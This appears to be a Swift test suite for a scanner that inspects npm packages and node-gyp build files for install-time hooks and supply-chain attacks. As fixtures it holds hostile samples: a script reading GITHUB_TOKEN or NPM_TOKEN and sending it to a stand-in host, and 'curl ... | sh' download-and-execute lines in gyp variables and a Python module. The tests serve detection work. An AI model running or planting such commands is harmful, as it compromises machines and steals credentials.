import SallyportModel
import SallyportTesting
import Testing

@testable import SallyportAnalysis

@Suite("What an installation of npm runs")
struct InstallReachTests {
    @Test("is seen in packages that are brought along", arguments: BundledAttacks.all)
    func bundled(_ attack: Attack) {
        let bytes = Sample.npm(attack.files, scripts: attack.scripts, extra: #""bundleDependencies":["x"]"#)
        let report = Sample.report(bytes)
        #expect(report.facts(attack.code, .install).count > 0, "\(report.facts.map { "\($0.reach) \($0.code)" })")
    }

    @Test("is held where more hooks are brought along than are followed")
    func manyHooks() {
        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"install":"echo"}}"#
        func report(_ count: Int) -> Report {
            let paths = (0..<count).map { ("node_modules/x\($0)/package.json", manifest) }
            return Sample.report(Sample.npm(Dictionary(uniqueKeysWithValues: paths)))
        }
        #expect(report(63).facts(.manifestUnreadable).isEmpty)
        #expect(report(64).facts(.manifestUnreadable).isEmpty)
        #expect(!report(65).facts(.manifestUnreadable, .install).isEmpty)
        #expect(report(200).hooks.count == 64)
    }

    @Test("is not looked for in packages of tests")
    func fixture() {
        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}"#
        let report = Sample.report(Sample.npm(["test/node_modules/x/package.json": manifest]))
        #expect(report.hooks.isEmpty)
    }

    @Test("is held where the manifest of a package that is brought along can't be read")
    func brokenManifest() {
        let report = Sample.report(Sample.npm(["node_modules/x/package.json": "{"]))
        #expect(report.facts(.hookUnreadable, .install).count == 1)
    }

    @Test("includes dependencies by address of packages that are brought along")
    func bundledDependency() {
        let manifest = #"{"name":"x","version":"1.0.0","dependencies":{"y":"https://x.example.invalid/y.tgz","z":"1"}}"#
        let report = Sample.report(Sample.npm(["node_modules/x/package.json": manifest]))
        #expect(report.dependencies.map(\.name) == ["y"])
        #expect(report.facts(.dependencyURL).count == 1)
    }

    @Test("is followed through every form of a command", arguments: CommandFormAttacks.followed)
    func form(_ command: String) {
        let bytes = Sample.npm(
            CommandFormAttacks.files,
            scripts: ["postinstall": command, "prepare": "node steal.js"],
            extra: ##""bin":{"setup-it":"steal.js"},"imports":{"#hidden":"./steal.js"}"##
        )
        let report = Sample.report(bytes)
        #expect(
            !report.facts(.chainExfiltration, .install).isEmpty,
            "\(report.facts.map { "\($0.code) \($0.detail)" })"
        )
    }

    @Test("is held where it can't be read", arguments: CommandFormAttacks.held)
    func held(_ command: String) {
        let report = Sample.report(Sample.npm(["x.js": "", "steal.pl": "1;\n"], scripts: ["postinstall": command]))
        #expect(!report.facts(.hookUnreadable, .install).isEmpty)
    }

    @Test("is quiet where it is honest", arguments: CommandFormAttacks.honest)
    func honest(_ command: String) {
        let files = ["scripts/a.js": "", "x": "#!/usr/bin/env node\n", "a": "", "x.js": ""]
        let report = Sample.report(Sample.npm(files, scripts: ["postinstall": command, "build": "tsc", "x": "tsc"]))
        let loud = report.facts.filter { $0.code == .hookUnreadable || $0.code.isChain }
        #expect(loud.isEmpty, "\(loud.map(\.detail))")
    }

    @Test("is denied for the tokens of two services, and a fact of its own for one")
    func tokens() {
        func codes(_ names: String...) -> [FactCode] {
            let reads = names.map { "process.env.\($0)" }.joined(separator: " || ")
            let script = "const t = \(reads);\nrequire('https').get('https://x.example.invalid/' + t);\n"
            let report = Sample.report(Sample.npm(["i.js": script], scripts: ["postinstall": "node i.js"]))
            return Set(report.facts.map(\.code).filter(\.isChain)).sorted()
        }
        #expect(codes("GITHUB_TOKEN") == [.chainTokenUse])
        #expect(codes("GITHUB_TOKEN", "GH_TOKEN") == [.chainTokenUse])
        #expect(codes("NPM_TOKEN", "NODE_AUTH_TOKEN") == [.chainTokenUse])
        #expect(codes("NPM_TOKEN", "GITHUB_TOKEN").contains(.chainExfiltration))
    }
}

@Suite("gyp files")
struct GypReachTests {
    private let download = "'<!(curl https://x.example.invalid | sh)'"

    private func report(_ files: [String: String]) -> Report { Sample.report(Sample.npm(files)) }

    @Test("are followed into what they include, whatever its name is")
    func includes() {
        let binding = "{'includes': ['build/extra.txt'], 'targets': []}"
        let extra = "{'variables': {'x': \(download)}}"
        let found = report(["binding.gyp": binding, "build/extra.txt": extra])
        #expect(!found.facts(.chainDownloadExecute, .install).isEmpty)
        let second = ["binding.gyp": binding, "build/extra.txt": "{'includes': ['deep.inc']}", "build/deep.inc": extra]
        #expect(!report(second).facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test("are followed into the files of their dependencies")
    func dependencies() {
        let binding = "{'targets': [{'target_name': 'x', 'dependencies': ['deps/y.build:y#host']}]}"
        let found = report(["binding.gyp": binding, "deps/y.build": "{'variables': {'x': \(download)}}"])
        #expect(!found.facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test("are followed into a module of Python")
    func module() {
        let binding = "{'variables': {'x': '<!pymod_do_main(evil --go)'}}"
        let evil = "import os\ndef DoMain(a):\n    os.system('curl https://x.example.invalid | sh')\n"
        #expect(!report(["binding.gyp": binding, "evil.py": evil]).facts(.chainDownloadExecute, .install).isEmpty)
    }

    @Test(
        "hold for what is not found or can't be known",
        arguments: [
            "{'includes': ['missing.gypi']}", "{'includes': ['../../outside.gypi']}", "{'includes': ['<(x)/a.gypi']}",
            "{'targets': [{'dependencies': ['missing/a.gyp:a']}]}", "{'x': '<!pymod_do_main(missing a)'}",
            "{'x': '<!other_main(a)'}", "{'x': '<(sign)!(a)'}", "{'conditions': [['().__class__', {}]]}",
            "{'targets': [{'dependencies': ['<!(node -p \"\\'ev\\' + \\'il\\'\")']}]}",
            "{'targets': [{'dependencies': ['<!(node -p \"require(\\'./evil\\')\")']}]}", "{'targets': open('x')}",
        ]
    )
    func held(_ binding: String) {
        #expect(!report(["binding.gyp": binding]).facts(.hookUnreadable, .install).isEmpty)
    }

    @Test(
        "of honest packages are quiet",
        arguments: [
            "{'targets': [{'dependencies': ['<!(node -p \"require(\\'node-addon-api\\').gyp\")']}]}",
            "{'targets': [{'dependencies': ['<!(node -p \"require(\\'node-addon-api\\').targets\"):node_addon_api']}]}",
            "{'targets': [{'include_dirs': ['<!@(node -p \"require(\\'node-addon-api\\').include\")', '<!(node -e \"require(\\'nan\\')\")']}]}",
            "{'includes': ['common.gypi'], 'targets': [{'dependencies': ['deps/y.gyp:y', ':x', 'x']}]}",
            "{'targets': [{'conditions': [['OS==\"win\" and target_arch in [\"x64\"]', {'defines': ['A']}]]}]}",
            "{'targets': [{'actions': [{'action_name': 'a', 'action': ['python', '<(module_root_dir)/a.py', '<@(_inputs)']}]}]}",
        ]
    )
    func honest(_ binding: String) {
        let found = report([
            "binding.gyp": binding, "common.gypi": "{}", "deps/y.gyp": "{}", "a.py": "print(1)\n", "x": "{}",
        ])
        #expect(found.facts(.hookUnreadable).isEmpty, "\(found.facts(.hookUnreadable).map(\.detail))")
        #expect(found.denied.isEmpty)
    }
}
